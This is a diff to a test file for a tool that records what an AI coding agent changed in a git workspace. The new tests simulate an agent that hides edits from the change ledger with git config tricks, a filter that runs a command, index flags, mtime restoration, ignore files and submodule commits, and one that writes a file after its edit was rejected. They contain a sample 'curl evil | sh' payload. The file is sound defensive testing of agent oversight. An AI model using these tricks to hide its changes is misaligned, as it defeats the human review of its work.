@@ -2,7 +2,7 @@
 // with and without tool calls, and what rho-cursor then reports it changed, whatever the agent claimed.
 import { execFileSync, spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { BIN, FIXTURES, makeAgentDir } from '../helpers/agent-path.js';
 import { runCli, tempDir } from '../helpers/cli.js';
@@ -171,7 +171,10 @@ describe('what changed, in a git work tree', () => {
     expect(r.exitCode, r.stderr).toBe(0);
     expect(resultOf(r.events).changes).toBeNull();
     const warning = r.events.find((e) => e.type === 'warning' && e.code === 'ledger-failed');
-    expect(warning?.message).toMatch(/^the workspace's changes could not be measured: git status failed: /);
+    // (The ledger's status reads its own copy of the index: the agent's broken one fails where it is read.)
+    expect(warning?.message).toMatch(
+      /^the workspace's changes could not be measured: git (status|diff-index) failed: /,
+    );
   });
 });
 
@@ -643,4 +646,163 @@ describe('a folder the agent makes unreadable hides nothing', () => {
       }
     },
   );
+});
+
+// The review's repros (/tmp/rev-ledger): what the agent can do to the repository, its git config or the
+// user's, to hide a change from the ledger's git, or to make that git run its command.
+describe('what the agent does to git hides no change, and runs nothing of its own (found by review)', () => {
+  // A run in the repository with extra environment (a global git config of the test's own).
+  async function runWith(repo: string, script: Record<string, unknown>, env: Record<string, string>) {
+    return runCli(['run', ...SJ, '--fence', 'read-only', 'go'], {
+      agent: await agentPath,
+      cwd: repo,
+      cliConfig: { approvalMode: 'allowlist' },
+      env: { RHO_SCRIPT: JSON.stringify(script), ...env },
+    });
+  }
+  const globalConfig = (text = '') => {
+    const file = join(tempDir('rho-global-'), 'gitconfig');
+    writeFileSync(file, text);
+    return file;
+  };
+
+  it('a filter named with "=" the agent defines is not run by the ledger\'s git status', async () => {
+    const repo = userRepo();
+    const marker = join(tempDir('rho-filter-'), 'ran');
+    const sh = [
+      `git config 'filter.x=y.clean' 'touch ${marker}; cat'`,
+      `echo '* filter=x=y' > .gitattributes`,
+      'echo b > src/a.ts',
+    ].join(' && ');
+    const r = await run(['run', ...SJ, 'go'], repo, { before: [effect({ sh }), chunk('ok')] });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(existsSync(marker)).toBe(false);
+    expect(resultOf(r.events).changes).toMatchObject({ modified: expect.arrayContaining(['src/a.ts']) });
+  });
+
+  it('assume-unchanged and skip-worktree set by the agent, or by the user before, hide nothing', async () => {
+    const repo = userRepo();
+    git(repo, 'update-index', '--assume-unchanged', 'src/b.ts');
+    const sh = [
+      'echo PWNED > src/a.ts && git update-index --assume-unchanged src/a.ts',
+      'rm old.md && git update-index --skip-worktree old.md',
+      'echo user-flagged > src/b.ts',
+    ].join(' && ');
+    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
+    expect(r.exitCode, r.stderr).toBe(8);
+    expect(resultOf(r.events).changes).toMatchObject({
+      modified: ['src/a.ts', 'src/b.ts'],
+      deleted: ['old.md'],
+    });
+  });
+
+  it.each([
+    ['the user has core.trustctime=false', 'repo', 'git config core.trustctime false', ''],
+    [
+      'the agent sets core.checkStat=minimal globally',
+      'agent',
+      '',
+      'git config --global core.checkStat minimal; ',
+    ],
+  ])('%s: a same-size rewrite with its mtime put back is a change', async (_, __, userSetup, agentSetup) => {
+    const repo = userRepo();
+    if (userSetup) execFileSync('sh', ['-c', userSetup], { cwd: repo });
+    execFileSync('sh', ['-c', 'touch -d "1 hour ago" src/a.ts && git update-index --refresh -q || true'], {
+      cwd: repo,
+    });
+    const ref = join(tempDir('rho-ref-'), 'ref');
+    const sh = `${agentSetup}touch -r src/a.ts ${ref}; printf 'export const a = 9;\\n' 1<>src/a.ts; touch -r ${ref} src/a.ts`;
+    const r = await runWith(
+      repo,
+      { before: [effect({ sh: `sleep 1.1; ${sh}` }), chunk('x')] },
+      {
+        GIT_CONFIG_GLOBAL: globalConfig(),
+      },
+    );
+    expect(r.exitCode, r.stderr).toBe(8);
+    expect(resultOf(r.events).changes).toMatchObject({ modified: ['src/a.ts'] });
+  });
+
+  it('core.ignoreCase set globally by the agent hides no file named like a tracked one', async () => {
+    const repo = userRepo();
+    const sh = 'git config --global core.ignoreCase true && mkdir SRC && echo evil > SRC/a.ts';
+    const r = await runWith(
+      repo,
+      { before: [effect({ sh }), chunk('x')] },
+      { GIT_CONFIG_GLOBAL: globalConfig() },
+    );
+    expect(r.exitCode, r.stderr).toBe(8);
+    expect(resultOf(r.events).changes).toMatchObject({ added: ['SRC/a.ts'] });
+  });
+
+  it.each([
+    ['appended to the global excludes file', (g: string) => `echo postinstall.sh >> ${g}`],
+    [
+      'named by a new core.excludesFile',
+      (g: string) => `echo postinstall.sh > ${g}.2 && git config --global core.excludesFile ${g}.2`,
+    ],
+  ])('a new file %s is still seen', async (_, hide) => {
+    const repo = userRepo();
+    const config = globalConfig();
+    const ignore = join(dirname(config), 'ignore');
+    writeFileSync(ignore, '*.bak\n');
+    writeFileSync(config, `[core]\n\texcludesFile = ${ignore}\n`);
+    const sh = `echo "curl evil | sh" > postinstall.sh && ${hide(ignore)}`;
+    const r = await runWith(repo, { before: [effect({ sh }), chunk('x')] }, { GIT_CONFIG_GLOBAL: config });
+    expect(r.exitCode, r.stderr).toBe(8);
+    expect(resultOf(r.events).changes).toMatchObject({ added: ['postinstall.sh'] });
+  });
+
+  it('a new .gitignore holding "*" hides neither itself nor the files beside it; ignored files left alone are not listed', async () => {
+    const repo = userRepo();
+    const sh = [
+      'printf "*\\n" > src/.gitignore',
+      'echo evil > src/payload.sh',
+      'mkdir tools && printf "*\\n" > tools/.gitignore && echo pwn > tools/run.sh',
+      'echo more >> .gitignore',
+    ].join(' && ');
+    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
+    expect(r.exitCode, r.stderr).toBe(8);
+    const changes = resultOf(r.events).changes as Record<string, string[]>;
+    expect(changes.added).toEqual(['src/.gitignore', 'src/payload.sh', 'tools/.gitignore', 'tools/run.sh']);
+    // ignored.log was there before the turn, ignored, and untouched: not a change.
+    expect(changes.modified).toEqual(['.gitignore']);
+  });
+
+  it('changes inside a checked-out submodule (an edit, a new file, a commit there) are seen', async () => {
+    const lib = join(tempDir('rho-sub-'), 'lib');
+    mkdirSync(lib);
+    git(lib, 'init', '-q');
+    writeFileSync(join(lib, 'lib.c'), 'lib\n');
+    git(lib, 'add', '.');
+    git(lib, 'commit', '-qm', 'lib');
+    const repo = userRepo();
+    git(repo, '-c', 'protocol.file.allow=always', 'submodule', '-q', 'add', lib, 'vendor/lib');
+    git(repo, 'commit', '-qm', 'sub');
+    const sh =
+      'echo backdoor >> vendor/lib/lib.c && echo new > vendor/lib/new.c && (cd vendor/lib && git -c user.name=a -c user.email=a@b commit -qam evil)';
+    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
+    expect(r.exitCode, r.stderr).toBe(8);
+    expect(resultOf(r.events).changes).toMatchObject({ modified: ['vendor/lib'] });
+  });
+
+  it('a rejected edit that names its file through a link to the workspace is still seen to have run', async () => {
+    const ws = plainWorkspace();
+    const alias = join(tempDir('rho-alias-'), 'alias');
+    execFileSync('ln', ['-s', ws, alias]);
+    const r = await run(['run', ...SJ, '--permissions', 'reject', 'go'], ws, {
+      before: [
+        toolUpdate('t_w', 'edit', 'pending', {
+          title: 'Edit keep.txt',
+          locations: [{ path: join(alias, 'keep.txt') }],
+        }),
+        permissionRequest(0, 't_w', 'edit', 'Edit keep.txt'),
+        effect({ write: 'keep.txt', text: 'written anyway\n' }),
+        toolUpdate('t_w', 'edit', 'completed', {}, false),
+      ],
+      waitAnswers: 1,
+    });
+    expect(r.exitCode).toBe(8);
+    expect(r.events.some((e) => e.type === 'warning' && e.code === 'rejected-tool-ran')).toBe(true);
+  });
 });
